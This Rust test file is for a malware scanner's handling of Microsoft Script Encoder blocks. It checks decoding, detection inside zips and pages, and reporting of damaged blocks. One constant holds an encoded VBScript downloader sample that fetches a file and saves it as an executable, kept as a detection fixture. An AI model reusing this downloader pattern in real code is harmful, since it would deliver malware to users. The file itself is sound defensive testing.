//! Scripts encoded by Microsoft's Script Encoder (`.vbe`, `.jse`, encoded
//! blocks in pages): decoded, and matched as the script Windows Script
//! Host runs, under any name and inside any container.

use crate::util::*;
use xferscan::{Engine, FindingKind, Verdict};

/// A VBScript downloader as the Script Encoder writes it (encoded by this
/// crate's encoder of `format::screnc`'s tests, whose output is checked
/// there against Microsoft's):
/// `Set o = CreateObject("MSXML2.XMLHTTP")` ... `s.SaveToFile "p.exe", 2`.
const ENCODED_DOWNLOADER: &str = "#@~^3AAAAA==j\x7fY~KP{PZM+mO+}4%+1YcEt?(tJ c(HduPKhJ*@#@&W 6a+UPr!2:JS~rtYO2=z& Zfc! 8F2RGJwcn6\x7fJSPwlsd\x7f@#@&K ?\x7fxN@#@&j+DPkPxP/.\x7flO+}8L\x7fmOcrbf69~RjYMnm:E*@#@&/R}w\x7fU@#@&/ KHwn~{PF@#@&/c\x7fDbOnPKRM+dwGUk+$W9z@#@&/ jm\\+PGwks+,EaRnX+r~Py@#@&ZDsAAA==^#~@";

/// ClamAV's test page's block (Microsoft's encoder): a JScript function
/// that calls `alert('test@<test>\r\n')`.
const CLAMAV_BLOCK: &str = "#@~^LAAAAA==W!x^DkKxP6WKc#Pls+MYcvD+/D@$@!D+/D@*@#@&E#p8Vg0AAA==^#~@";

fn decoded_children(r: &xferscan::Report) -> Vec<String> {
    r.objects
        .iter()
        .map(|o| o.path.name().to_owned())
        .filter(|n| n.starts_with("<decoded script @"))
        .collect()
}

#[test]
fn an_encoded_vbscript_downloader_is_matched_decoded() {
    let r = scan("invoice.vbe", ENCODED_DOWNLOADER.as_bytes().to_vec());
    assert_eq!(decoded_children(&r), ["<decoded script @0>"]);
    assert!(r.matched("VBS_Downloader"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    // In a zip, under a name that says nothing of a script.
    let zip = zip_of(
        &[("readme.txt", ENCODED_DOWNLOADER.as_bytes())],
        Method::Deflated,
    );
    let r = scan("docs.zip", zip);
    assert!(r.matched("VBS_Downloader"), "{:?}", keys(&r));
}

#[test]
fn encoded_blocks_in_pages_and_scripts_are_decoded() {
    let rules = Engine::builder()
        .default_rules(false)
        .rules_source(
            "decoded.yar",
            "rule Decoded_Alert { strings: $a = \"alert('test@<test>\" condition: $a }",
        )
        .build()
        .unwrap();
    let page = format!(
        "<html><body><script language=\"JScript.Encode\"><!--//\n//comment\n{CLAMAV_BLOCK}\n//--></script></body></html>"
    );
    for (name, data) in [
        ("page.html", page),
        ("tool.jse", CLAMAV_BLOCK.to_owned()),
        (
            "notes.txt",
            format!("two blocks: {CLAMAV_BLOCK} and {CLAMAV_BLOCK}"),
        ),
    ] {
        let r = rules.scan_bytes(name, data.into_bytes());
        assert!(r.matched("Decoded_Alert"), "{name}: {:#?}", r.objects);
    }
}

#[test]
fn a_block_cut_short_or_altered_is_a_finding_and_still_decoded() {
    let cut = &ENCODED_DOWNLOADER[..120];
    let r = scan("cut.vbe", cut.as_bytes().to_vec());
    assert_eq!(decoded_children(&r).len(), 1);
    assert!(has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
    assert!(ENCODED_DOWNLOADER.contains("mO+}4"));
    let altered = ENCODED_DOWNLOADER.replacen("mO+}4", "mO+}5", 1);
    let r = scan("altered.vbe", altered.into_bytes());
    assert!(
        r.findings
            .iter()
            .any(|f| matches!(&f.kind, FindingKind::ChecksumMismatch { .. })),
        "{:?}",
        keys(&r)
    );
}

#[test]
fn text_that_only_looks_like_a_marker_is_clean() {
    // Clean controls: the marker quoted without a header, and an encoded
    // harmless function in a page.
    let r = scan(
        "notes.txt",
        b"Encoded scripts start with #@~^ and end with ^#~@.\n".to_vec(),
    );
    assert!(decoded_children(&r).is_empty());
    assert_clean(&r);
    let page = format!(
        "<html><body><script language=\"JScript.Encode\">{CLAMAV_BLOCK}</script></body></html>"
    );
    let r = scan("old.html", page.into_bytes());
    // Decoded in the page and in its script element: scanned once.
    assert!(!decoded_children(&r).is_empty(), "{:#?}", r.objects);
    assert_clean(&r);
}
